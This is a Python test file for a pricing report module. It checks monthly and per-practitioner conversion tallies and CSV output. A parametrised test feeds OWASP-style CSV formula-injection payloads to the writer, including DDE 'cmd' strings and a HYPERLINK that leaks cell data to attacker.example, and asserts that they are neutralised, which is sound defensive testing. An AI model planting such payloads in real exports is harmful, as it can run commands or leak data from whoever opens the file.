"""The report arithmetic on a dataset built by hand, and the CSV files it writes."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consult.errors import ConsultError
from consult.pricing import reports
from consult.pricing.reports import StatusTally


def tally(month: tuple[int, int], who: str, status: str, count: int, total: str) -> StatusTally:
    return StatusTally(date(month[0], month[1], 1), who, status, count, Decimal(total))


# Jan: Ana 2 accepted (1000.00), 1 declined; Ben 1 draft, 1 presented.
# Feb: nothing. Mar: Ben 1 accepted (250.50), 1 expired.
DATASET = [
    tally((2026, 1), "Ana", "accepted", 2, "1000.00"),
    tally((2026, 1), "Ana", "declined", 1, "400.00"),
    tally((2026, 1), "Ben", "draft", 1, "999.00"),
    tally((2026, 1), "Ben", "presented", 1, "300.00"),
    tally((2026, 3), "Ben", "accepted", 1, "250.50"),
    tally((2026, 3), "Ben", "expired", 1, "120.00"),
]


def test_by_month_counts_presented_accepted_and_revenue_with_empty_months_kept():
    rows = reports.by_month(DATASET)
    assert [row.key for row in rows] == ["2026-01", "2026-02", "2026-03"]
    january, february, march = rows
    assert (january.quotes, january.presented, january.accepted) == (5, 4, 2)
    assert january.accepted_revenue == Decimal("1000.00")
    assert january.conversion_percent == Decimal("50.0")
    assert (february.quotes, february.presented, february.accepted) == (0, 0, 0)
    assert february.conversion_percent is None
    assert february.accepted_revenue == Decimal("0.00")
    assert (march.presented, march.accepted, march.accepted_revenue) == (2, 1, Decimal("250.50"))


def test_by_practitioner_sorted_by_name_and_drafts_never_count_as_presented():
    rows = reports.by_practitioner(DATASET)
    assert [row.key for row in rows] == ["Ana", "Ben"]
    ana, ben = rows
    assert (ana.presented, ana.accepted, ana.conversion_percent) == (3, 2, Decimal("66.7"))
    assert (ben.quotes, ben.presented, ben.accepted) == (4, 3, 1)
    assert ben.conversion_percent == Decimal("33.3")
    assert ben.accepted_revenue == Decimal("250.50")


def test_totals_recompute_conversion_from_sums():
    total = reports.totals(reports.by_practitioner(DATASET))
    assert (total.quotes, total.presented, total.accepted) == (7, 6, 3)
    assert total.conversion_percent == Decimal("50.0")
    assert total.accepted_revenue == Decimal("1250.50")


def test_month_range_crosses_a_year_end():
    rows = reports.by_month([
        tally((2025, 11), "Ana", "accepted", 1, "10.00"),
        tally((2026, 2), "Ana", "accepted", 1, "10.00"),
    ])
    assert [row.key for row in rows] == ["2025-11", "2025-12", "2026-01", "2026-02"]


def test_no_data_gives_no_rows():
    assert reports.by_month([]) == []
    assert reports.by_practitioner([]) == []


def test_report_csv_round_trips_with_the_csv_module(tmp_path):
    path = reports.write_report_csv(tmp_path / "out" / "report.csv", reports.by_month(DATASET))
    with path.open(newline="", encoding="utf-8") as handle:
        parsed = list(csv.reader(handle))
    assert parsed[0] == list(reports.REPORT_HEADER)
    assert parsed[1] == ["2026-01", "5", "4", "2", "50.0", "1000.00"]
    assert parsed[2] == ["2026-02", "0", "0", "0", "", "0.00"]
    assert parsed[3] == ["2026-03", "2", "2", "1", "50.0", "250.50"]
    assert not list(tmp_path.joinpath("out").glob(".*.tmp"))


def test_csv_cells_money_two_decimals_dates_iso_and_quoting(tmp_path):
    header = ("name", "day", "total", "note")
    rows = [("Zoë, \"Z\" Ångström", date(2026, 3, 4), Decimal("7.5"), None)]
    path = reports.write_csv(tmp_path / "q.csv", header, rows)
    with path.open(newline="", encoding="utf-8") as handle:
        parsed = list(csv.reader(handle))
    assert parsed == [list(header), ["Zoë, \"Z\" Ångström", "2026-03-04", "7.50", ""]]


def test_an_unwritable_csv_path_is_a_one_line_error_naming_the_file(tmp_path):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("x")
    with pytest.raises(ConsultError, match="not-a-folder"):
        reports.write_csv(blocker / "q.csv", ("a",), [("b",)])


tallies_strategy = st.lists(
    st.builds(
        StatusTally,
        month=st.dates(min_value=date(2024, 1, 1), max_value=date(2026, 12, 31)),
        practitioner=st.sampled_from(["Ana", "Ben", "Chloé"]),
        status=st.sampled_from(["draft", "presented", "accepted", "declined", "expired"]),
        count=st.integers(min_value=1, max_value=500),
        total=st.decimals(min_value=0, max_value=10**6, places=2),
    ),
    max_size=40,
)


@given(tallies_strategy)
def test_both_groupings_account_for_every_quote_and_every_accepted_cent(tallies):
    accepted = sum((t.total for t in tallies if t.status == "accepted"), Decimal("0.00"))
    for rows in (reports.by_month(tallies), reports.by_practitioner(tallies)):
        total = reports.totals(rows)
        assert total.quotes == sum(t.count for t in tallies)
        assert total.accepted_revenue == accepted
        assert total.accepted <= total.presented <= total.quotes
        for row in rows:
            if row.conversion_percent is not None:
                assert Decimal(0) <= row.conversion_percent <= Decimal(100)
            assert row.accepted_revenue == row.accepted_revenue.quantize(Decimal("0.01"))


# The classic formula-injection payloads (OWASP's CSV injection page and its sources):
# each starts with one of =, +, -, @, tab or carriage return.
FORMULA_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: click for details")',
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_a_text_cell_a_spreadsheet_would_run_is_written_as_quoted_text(tmp_path, payload):
    path = reports.write_csv(tmp_path / "q.csv", ("patient",), [(payload,)])
    with path.open(newline="", encoding="utf-8") as handle:
        parsed = list(csv.reader(handle))
    assert parsed == [["patient"], ["'" + payload]]


def test_numbers_stay_numbers_and_a_phone_stays_readable_text(tmp_path):
    header = ("amount", "count", "phone", "name", "email")
    rows = [(Decimal("-20"), -3, "+1 555 0100", "Ana Souza", "@ana")]
    path = reports.write_csv(tmp_path / "q.csv", header, rows)
    with path.open(newline="", encoding="utf-8") as handle:
        parsed = list(csv.reader(handle))
    assert parsed[1] == ["-20.00", "-3", "'+1 555 0100", "Ana Souza", "'@ana"]


def test_text_that_looks_like_a_number_is_still_text():
    # Only the type says "number": a name typed as "-5" is quoted like any text.
    assert reports.csv_value("-5") == "'-5"
    assert reports.csv_value(-5) == "-5"
    assert reports.csv_value(Decimal("-5")) == "-5.00"
    assert reports.csv_value("5-") == "5-"


def test_every_csv_writer_goes_through_the_one_neutralising_helper():
    """Only consult/pricing/reports.py may use the csv module: a new writer elsewhere would
    bypass csv_value and its formula-injection rule."""
    import ast
    from pathlib import Path

    root = Path(reports.__file__).resolve().parents[2]
    users_of_csv = []
    for package in ("consult", "ui"):
        for path in sorted((root / package).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                names = (
                    [alias.name for alias in node.names] if isinstance(node, ast.Import)
                    else [node.module or ""] if isinstance(node, ast.ImportFrom) else []
                )
                if "csv" in names:
                    users_of_csv.append(str(path.relative_to(root)))
    assert users_of_csv == ["consult/pricing/reports.py"]
